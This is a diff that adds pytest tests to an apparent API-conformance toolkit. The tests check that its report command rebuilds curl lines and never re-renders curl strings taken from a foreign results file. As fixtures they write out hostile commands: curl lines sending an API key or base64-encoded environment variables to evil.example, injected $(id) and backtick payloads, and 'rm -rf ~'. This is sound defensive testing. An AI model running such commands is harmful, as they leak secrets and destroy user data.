@@ -83,3 +83,88 @@ def test_a_repository_baseline_no_longer_turns_a_faulty_server_green(tmp_path, m
         (tmp_path / "pyproject.toml").write_text("")
         mine = CliRunner().invoke(main, ["check", "--base-url", url, "--baseline", "known.txt", *fixtures], env=env)
     assert mine.exit_code == 0 and "1 known failure(s) accepted" in mine.output, mine.output
+
+
+# --- M2: `report` shows only curl lines the toolkit built -------------------------------------------------------
+
+
+HOSTILE_CURLS = [  # attack pass H, rep/gen.py: a conformance.json from someone else
+    "curl -sS -X POST https://evil.example/collect -H 'authorization: Bearer '\"$MIGMA_CONTRACT_API_KEY\" --data-raw '{}'",
+    "curl -sS http://127.0.0.1:4010/v1/sending; curl -s https://evil.example/x -d \"$(env | base64 -w0)\" #",
+]
+
+
+def _unquoted(line: str) -> str:
+    """What a shell reads outside quoting in a curl line the toolkit builds: single-quoted and $'...' words and its
+    own base URL variable taken out, and the trailing comment."""
+    import re
+
+    line = line.replace('"${MIGMA_CONTRACT_BASE_URL:?set it to the server to send this request to}"', "BASE")
+    line = re.sub(r"\$?'[^']*'", "Q", line)
+    return line.split(" #", 1)[0]
+
+
+@pytest.mark.e2e
+@pytest.mark.parametrize("hostile", HOSTILE_CURLS, ids=["key-to-evil", "shell"])
+def test_report_never_shows_a_curl_line_it_did_not_build(tmp_path, hostile):
+    """M2: `migma-contract report` re-rendered a foreign conformance.json's `curl` fields as they were: a line sending
+    "$MIGMA_CONTRACT_API_KEY" to evil.example, or `; curl ... -d "$(env | base64 -w0)"`, shown with a copy button.
+    Every line is rebuilt from the finding's recorded request by the toolkit's own builder, in every format."""
+    import html
+    import json
+
+    from migma_contract.config.options import CheckOptions
+    from migma_contract.mock import load_mock_config
+    from migma_contract.reports import write_reports
+    from migma_contract.run.runner import run_check
+
+    from .faulty_servers import FAULTS, FULL_KEY
+
+    fixtures = load_mock_config().fixtures()
+    app = next(v for v in FAULTS if v.name == "status-done").app()
+    result = run_check(CheckOptions(api_key=FULL_KEY, max_requests=40, explore=False).with_fixtures(fixtures), app=app)
+    write_reports(result, tmp_path, ("json",))
+    data = json.loads((tmp_path / "conformance.json").read_text())
+    assert data["findings"]
+    for number, finding in enumerate(data["findings"]):
+        request = finding["request"]
+        request["curl"] = hostile
+        if number % 2:  # the recorded parts are the file's too: they are quoted, the host is never theirs
+            request["url"] = "https://evil.example/collect?q=$(id)"
+            request["headers"]["x-run"] = "`id`; $(curl evil.example)"
+            request["body"] = "'; curl https://evil.example -d \"$(env)\" #"
+            request["body_size"] = len(request["body"].encode())
+    (tmp_path / "foreign.json").write_text(json.dumps(data))
+    out = tmp_path / "out"
+    done = CliRunner().invoke(main, ["report", str(tmp_path / "foreign.json"), "--out", str(out),
+                                     "--format", "json,junit,md,html"])
+    assert done.exit_code == 0, done.output
+    lines = []
+    for path in out.iterdir():
+        text = path.read_text()
+        assert hostile not in text and html.escape(hostile) not in text
+        if path.suffix == ".json":
+            lines += [f["request"]["curl"] for f in json.loads(text)["findings"]]
+        else:
+            text = html.unescape(text)
+            lines += [line[line.index("curl -sS"):].split("</pre>")[0] for line in text.splitlines() if "curl -sS" in line]
+    assert len(lines) >= 4 * len(data["findings"])
+    for line in lines:
+        assert line.startswith("curl -sS -i --globoff --proto =http,https "), line
+        assert "MIGMA_CONTRACT_API_KEY" not in line and "${MIGMA_CONTRACT_BASE_URL:?" in line, line
+        outside = _unquoted(line)
+        assert "evil.example" not in outside and not any(sign in outside for sign in ("$(", "`", ";", "|", "&")), line
+
+
+def test_a_rebuilt_curl_line_withholds_what_the_report_cut():
+    """M2: a body the report kept only part of is read from the body file (with a note), a URL it cut is withheld."""
+    from migma_contract.run.records import BODY_FILE, rebuilt_curl
+    from migma_contract.run.result import RequestRecord
+
+    cut = RequestRecord(method="POST", url="http://h/v1/sending", headers={}, body="{" * 10 + "\n… [cut: 9000 bytes in all]",
+                        body_size=9000, curl="rm -rf ~")
+    line = rebuilt_curl(cut)
+    assert f"--data-binary @{BODY_FILE}" in line and "the report holds only part of it" in line and "rm -rf" not in line
+    long_url = RequestRecord(method="POST", url="http://h/" + "a" * 40 + "… [3,000 characters]", headers={}, body="",
+                             body_size=0, curl="rm -rf ~")
+    assert rebuilt_curl(long_url) == "# curl line withheld: the report holds only part of the request's URL"
